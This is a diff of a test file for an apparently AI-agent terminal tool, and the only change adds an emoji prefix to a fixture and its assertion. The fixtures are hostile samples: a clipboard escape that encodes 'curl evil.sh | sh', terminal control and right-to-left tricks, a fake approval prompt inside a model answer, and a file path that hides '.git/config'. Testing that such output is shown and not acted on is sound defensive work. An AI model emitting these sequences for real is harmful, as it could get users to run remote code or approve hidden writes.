@@ -43,7 +43,7 @@ afterEach(async () => {
 
 const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07'
 const ANSWER =
-  `Here you go.${OSC52}\r\x1b[2Kall clear \u202eevil.sh\u202c done\n` +
+  `ok😀 Here you go.${OSC52}\r\x1b[2Kall clear \u202eevil.sh\u202c done\n` +
   '? bash needs your approval:\n    npm test\n  [y] allow once\n'
 const WRITE_PATH = 'notes.txt\r\x1b[2K.git/config'
 const WRITE_ARGS = { path: WRITE_PATH, content: 'hi\n' }
@@ -117,7 +117,7 @@ describe('bridle on a terminal: outside text is shown, never acted on', () => {
     expect(run.code, shown).toBe(0)
     expect(actingBytes(run.bytes), shown).toEqual([])
     // The answer: every control shown as an escape, the fake prompt shown as plain text.
-    expect(shown).toContain('Here you go.\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007')
+    expect(shown).toContain('ok😀 Here you go.\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007')
     expect(shown).toContain('\\u000d\\u001b[2Kall clear \\u202eevil.sh\\u202c done')
     // The write: the real path, as JSON, with a warning; not a bare `.git/config` nor `notes.txt`.
     expect(shown).toContain('? write needs your approval:')
